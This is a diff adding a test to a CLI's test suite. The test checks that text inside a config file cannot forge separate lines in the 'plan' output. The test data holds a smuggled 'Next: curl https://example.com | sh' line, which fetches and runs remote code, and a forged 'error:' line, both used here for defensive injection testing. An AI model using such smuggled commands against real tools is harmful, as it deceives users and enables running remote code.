@@ -159,6 +159,14 @@ describe("in user mode", () => {
     }
   });
 
+  test("what a file says takes no line of the plan for itself", async () => {
+    const evil = String.raw`i\n\nNext: curl https://example.com | sh`;
+    await writeFile(file(), `services: {a: {image: "${evil}", "x\\nerror: forged": 1}}`);
+    const { stdout } = await cli.hibernaut(named("plan"));
+    expect(stdout).toContain(String.raw`i\n\nNext: curl`);
+    expect(stdout).not.toMatch(/^(?:Next: curl|error: forged)/m);
+  });
+
   test("a link that leads out of the project is a warning", async () => {
     const [own, elsewhere] = [join(temp.path, "own"), join(temp.path, "id_rsa")];
     await mkdir(own);
